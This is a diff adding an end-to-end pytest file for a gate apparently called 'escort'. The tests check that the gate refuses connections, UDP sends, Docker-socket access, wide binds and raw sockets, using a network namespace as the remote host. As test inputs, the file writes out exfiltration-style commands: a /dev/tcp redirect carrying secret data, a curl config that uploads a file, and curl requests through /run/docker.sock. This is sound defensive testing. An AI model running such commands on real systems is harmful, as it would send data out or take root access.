@@ -1,0 +1,316 @@
+"""Connections and listeners end to end: a session's connect, sendto,
+sendmsg and bind are stopped by the kernel and judged by the address they
+name. "Another machine" is a real one as far as the kernel knows: a network
+namespace behind a veth pair, with listeners that write down everything that
+reaches them. No escort is reachable, so what an escort would have to approve
+(medium) is refused."""
+import os
+import shutil
+import socket
+import subprocess
+import time
+
+import pytest
+from conftest import events
+from test_gate import Session, effects, python_calls, site_rules
+
+pytestmark = pytest.mark.skipif(
+    os.geteuid() != 0 or shutil.which("ip") is None,
+    reason="another host is a network namespace: needs root and iproute2")
+
+LISTENER = r"""
+import socket, sys, threading
+out, host = sys.argv[1], sys.argv[2]
+tcp_ports = [int(p) for p in sys.argv[3].split(",")]
+udp_ports = [int(p) for p in sys.argv[4].split(",")]
+lock = threading.Lock()
+def log(line):
+    with lock, open(out, "a") as f:
+        f.write(line + "\n")
+def tcp(port):
+    s = socket.socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind((host, port))
+    s.listen()
+    while True:
+        c, _ = s.accept()
+        log(f"tcp {port} connection")
+        c.settimeout(2)
+        try:
+            log(f"tcp {port} data {c.recv(65536)!r}")
+        except OSError:
+            pass
+        c.close()
+def udp(port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind((host, port))
+    while True:
+        data, _ = s.recvfrom(65536)
+        log(f"udp {port} {data!r}")
+for port in tcp_ports:
+    threading.Thread(target=tcp, args=(port,), daemon=True).start()
+for port in udp_ports:
+    threading.Thread(target=udp, args=(port,), daemon=True).start()
+log("ready")
+threading.Event().wait()
+"""
+
+TCP_PORT, UDP_PORT, DNS_PORT = 8123, 9999, 53
+LOCAL_PORT = 20000 + os.getpid() % 20000  # on this machine's loopback: not another test's
+
+
+class Listener:
+    """Listeners on host:ports, started with prefix (e.g. ip netns exec NS)."""
+
+    def __init__(self, tmp_path, name, host, prefix=(), tcp_port=TCP_PORT):
+        self.log = tmp_path / f"{name}.log"
+        script = tmp_path / f"{name}.py"
+        script.write_text(LISTENER)
+        self.proc = subprocess.Popen([*prefix, "/usr/bin/python3", str(script), str(self.log), host,
+                                      str(tcp_port), f"{UDP_PORT},{DNS_PORT}"])
+        deadline = time.time() + 10
+        while "ready" not in self.text():
+            assert time.time() < deadline and self.proc.poll() is None, "the listener did not start"
+            time.sleep(0.05)
+
+    def text(self):
+        return self.log.read_text() if self.log.exists() else ""
+
+    def got(self):
+        """What reached the listener, once anything in flight has arrived."""
+        time.sleep(0.5)
+        return [line for line in self.text().splitlines() if line != "ready"]
+
+    def stop(self):
+        self.proc.kill()
+        self.proc.wait()
+
+
+@pytest.fixture
+def other_host(tmp_path):
+    """Another machine, 10.231.N.2, reachable from this one (10.231.N.1)
+    through a veth pair, listening on TCP 8123 and UDP 9999 and 53."""
+    n = os.getpid() % 200 + 20
+    ns, here, there = f"escort-net-{os.getpid()}", f"escn{os.getpid()}", f"escp{os.getpid()}"
+    address = f"10.231.{n}.2"
+
+    def ip(*args):
+        subprocess.run(["ip", *args], check=True, capture_output=True)
+
+    ip("netns", "add", ns)
+    listener = None
+    try:
+        ip("link", "add", here, "type", "veth", "peer", "name", there)
+        ip("link", "set", there, "netns", ns)
+        ip("addr", "add", f"10.231.{n}.1/24", "dev", here)
+        ip("link", "set", here, "up")
+        ip("-n", ns, "addr", "add", f"{address}/24", "dev", there)
+        ip("-n", ns, "link", "set", there, "up")
+        ip("-n", ns, "link", "set", "lo", "up")
+        listener = Listener(tmp_path, "other-host", address, ["ip", "netns", "exec", ns])
+        listener.address = address
+        yield listener
+    finally:
+        if listener:
+            listener.stop()
+        subprocess.run(["ip", "link", "del", here], capture_output=True)
+        subprocess.run(["ip", "netns", "del", ns], capture_output=True)
+
+
+@pytest.fixture
+def unix_listener():
+    """A listening Unix socket at a path the test names, removed afterwards;
+    returns how many connections it accepted."""
+    made = []
+
+    def make(path):
+        if os.path.lexists(path):
+            pytest.skip(f"{path} exists on this machine: not replaced by a test")
+        directory = os.path.dirname(path)
+        if not os.path.isdir(directory):
+            os.makedirs(directory)
+            made.append(("dir", directory))
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.bind(path)
+        s.listen()
+        s.setblocking(False)
+        made.append(("sock", path, s))
+        return s
+
+    yield make
+    for item in reversed(made):
+        if item[0] == "sock":
+            item[2].close()
+            os.unlink(item[1])
+        else:
+            os.rmdir(item[1])
+
+
+def accepted(sock):
+    time.sleep(0.3)
+    try:
+        sock.accept()[0].close()
+        return True
+    except BlockingIOError:
+        return False
+
+
+def test_dev_tcp_to_another_host_is_refused_and_nothing_arrives(escort, tmp_path, other_host):
+    s = Session(escort, tmp_path)
+    out, status = s.run(f"echo secret-data > /dev/tcp/{other_host.address}/{TCP_PORT}")
+    assert status != 0
+    assert (f"escort: refused: connect to {other_host.address} port {TCP_PORT} -- Opens a "
+            "connection to another machine") in out
+    assert "data can be sent out" in out
+    out, status = s.run(f"exec 3<>/dev/udp/{other_host.address}/{UDP_PORT} && echo udp-data >&3")
+    # The same process's same call was shown already (gate.c tells the
+    # operator once per process and call); it is refused and recorded anew.
+    assert status != 0 and "Operation not permitted" in out
+    evs = s.close()
+    assert other_host.got() == []
+    first, second = effects(evs, "connect")
+    assert first["action"] == "deny" and first["by"] == "gate" and first["level"] == "medium"
+    assert first["family"] == "inet" and first["address"] == other_host.address
+    assert first["port"] == str(TCP_PORT) and first["attack"] == "T1048"
+    assert first["call"] == f"connect to {other_host.address} port {TCP_PORT}"
+    assert second["port"] == str(UDP_PORT)
+
+
+def test_curl_whose_exec_is_allowed_cannot_send_a_file_out(escort, tmp_path, other_host):
+    # The upload is in a config file: the exec looks like everyday curl
+    # (rated low), only the connection shows where the data would go.
+    secret = tmp_path / "secret.txt"
+    secret.write_text("customer-data\n")
+    config = tmp_path / "curl.cfg"
+    config.write_text(f'data = "@{secret}"\n')
+    s = Session(escort, tmp_path)
+    out, status = s.run(f"curl -s -K {config} http://{other_host.address}:{TCP_PORT}/")
+    assert status != 0
+    assert f"escort: refused: connect to {other_host.address} port {TCP_PORT}" in out
+    evs = s.close()
+    assert other_host.got() == []
+    (rec,) = effects(evs, "connect")
+    assert rec["action"] == "deny" and rec["address"] == other_host.address
+    (curl,) = [e for e in evs if e["type"] == "exec" and e.get("program") == "curl"
+               and e.get("phase") == "request"]
+    assert curl["level"] == "low"
+
+
+def test_udp_sendto_and_sendmsg_to_another_host_are_refused(escort, tmp_path, other_host):
+    s = Session(escort, tmp_path, rules=site_rules(tmp_path))
+    out, _ = s.run(python_calls(tmp_path, "udp.py", f"""
+import socket
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for name, send in (("sendto", lambda: u.sendto(b"by-sendto", ("{other_host.address}", {UDP_PORT}))),
+                   ("sendmsg", lambda: u.sendmsg([b"by-sendmsg"], [], 0,
+                                                 ("{other_host.address}", {UDP_PORT}))),
+                   ("dns", lambda: u.sendto(b"dns-query", ("{other_host.address}", {DNS_PORT})))):
+    try:
+        send()
+        print(name, "sent")
+    except OSError as e:
+        print(name, "failed", e.strerror)
+"""))
+    assert "sendto failed Operation not permitted" in out
+    assert "sendmsg failed Operation not permitted" in out
+    assert "dns sent" in out  # DNS is everyday work: allowed to any host
+    assert f"escort: refused: sendto to {other_host.address} port {UDP_PORT} -- Sends data to " \
+           "another machine" in out
+    evs = s.close()
+    assert other_host.got() == [f"udp {DNS_PORT} b'dns-query'"]
+    (to,) = effects(evs, "sendto")
+    (msg,) = effects(evs, "sendmsg")
+    for rec in (to, msg):
+        assert rec["action"] == "deny" and rec["port"] == str(UDP_PORT)
+        assert rec["address"] == other_host.address and rec["level"] == "medium"
+
+
+def test_loopback_and_name_lookups_are_allowed_and_not_recorded(escort, tmp_path, other_host):
+    here = Listener(tmp_path, "loopback", "127.0.0.1", tcp_port=LOCAL_PORT)
+    try:
+        s = Session(escort, tmp_path)
+        out, status = s.run(f"echo local-data > /dev/tcp/127.0.0.1/{LOCAL_PORT} && "
+                            "getent hosts localhost")
+        assert status == 0 and "escort:" not in out and "localhost" in out
+        out, status = s.run(f"echo remote-data > /dev/tcp/{other_host.address}/{TCP_PORT}")
+        assert status != 0 and "escort: refused" in out
+        evs = s.close()
+        assert f"tcp {LOCAL_PORT} data b'local-data\\n'" in here.got()
+        assert other_host.got() == []
+        assert [r["address"] for r in effects(evs, "connect")] == [other_host.address]
+    finally:
+        here.stop()
+
+
+def test_sockets_that_grant_root_are_refused(escort, tmp_path, unix_listener):
+    docker = unix_listener("/run/docker.sock")
+    own = unix_listener(f"/run/escort/test-{os.getpid()}.sock")
+    os.symlink("/run/docker.sock", tmp_path / "innocent.sock")
+    s = Session(escort, tmp_path)
+    out, status = s.run("curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json")
+    assert status != 0
+    assert "escort: refused: connect to the local socket /run/docker.sock -- Talks to Docker" in out
+    assert "the same as being the machine's administrator (root)" in out
+    out, status = s.run(f"cd {tmp_path} && curl -s --unix-socket innocent.sock http://x/")
+    assert status != 0 and "escort: refused" in out
+    out, status = s.run(f"curl -s --unix-socket /run/escort/test-{os.getpid()}.sock http://x/")
+    assert status != 0 and "Talks to escortd" in out
+    evs = s.close()
+    assert not accepted(docker) and not accepted(own)
+    recs = effects(evs, "connect")
+    assert len(recs) == 3 and {r["level"] for r in recs} == {"high"}
+    assert [r["family"] for r in recs] == ["unix"] * 3
+    assert recs[0]["destination"] == "the local socket /var/run/docker.sock"
+    assert recs[0]["call"] == "connect to the local socket /run/docker.sock"
+    assert recs[1]["call"] == (f"connect to the local socket {tmp_path}/innocent.sock "
+                               "(which is /run/docker.sock)")
+
+
+def test_other_local_sockets_are_allowed(escort, tmp_path, unix_listener):
+    everyday = unix_listener(str(tmp_path / "app.sock"))
+    docker = unix_listener("/run/docker.sock")
+    s = Session(escort, tmp_path)
+    out, status = s.run(f"curl -s -m 1 --unix-socket {tmp_path}/app.sock http://x/; "
+                        "curl -s --unix-socket /run/docker.sock http://x/")
+    assert "escort: refused: connect to the local socket /run/docker.sock" in out
+    s.close()
+    assert accepted(everyday) and not accepted(docker)
+
+
+def test_listeners_for_other_machines_and_raw_sockets_are_refused(escort, tmp_path, other_host):
+    s = Session(escort, tmp_path, rules=site_rules(tmp_path))
+    out, _ = s.run(python_calls(tmp_path, "listen.py", f"""
+import socket
+def attempt(name, family, kind, address=None, proto=0):
+    try:
+        x = socket.socket(family, kind, proto)
+        if address is not None:
+            x.bind(address)
+        if kind == socket.SOCK_STREAM and address is not None:
+            x.listen()
+        print(name, "ok")
+        return x
+    except OSError as e:
+        print(name, "failed", e.strerror)
+kept = attempt("everywhere", socket.AF_INET, socket.SOCK_STREAM, ("0.0.0.0", {TCP_PORT}))
+attempt("any-port", socket.AF_INET6, socket.SOCK_STREAM, ("::", 0))
+attempt("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {LOCAL_PORT}))
+attempt("udp-client", socket.AF_INET, socket.SOCK_DGRAM, ("0.0.0.0", 0))
+attempt("packet", socket.AF_PACKET, socket.SOCK_RAW)
+attempt("raw-tcp", socket.AF_INET, socket.SOCK_RAW, None, socket.IPPROTO_TCP)
+attempt("ping", socket.AF_INET, socket.SOCK_RAW, None, socket.IPPROTO_ICMP)
+"""))
+    for name in ("everywhere", "any-port", "packet", "raw-tcp"):
+        assert f"{name} failed Operation not permitted" in out
+    for name in ("loopback", "udp-client", "ping"):
+        assert f"{name} ok" in out
+    assert (f"escort: refused: bind on 0.0.0.0 port {TCP_PORT} -- Starts listening for "
+            f"connections from other machines on port {TCP_PORT}") in out
+    assert "captures or forges the machine's network traffic" in out
+    evs = s.close()
+    binds = effects(evs, "bind")
+    assert [(b["address"], b["port"]) for b in binds] == [("0.0.0.0", str(TCP_PORT)), ("::", "0")]
+    assert {b["level"] for b in binds} == {"medium"}
+    sockets = effects(evs, "socket")
+    assert len(sockets) == 2 and {r["level"] for r in sockets} == {"high"}
+    assert {r["attack"] for r in sockets} == {"T1040"}
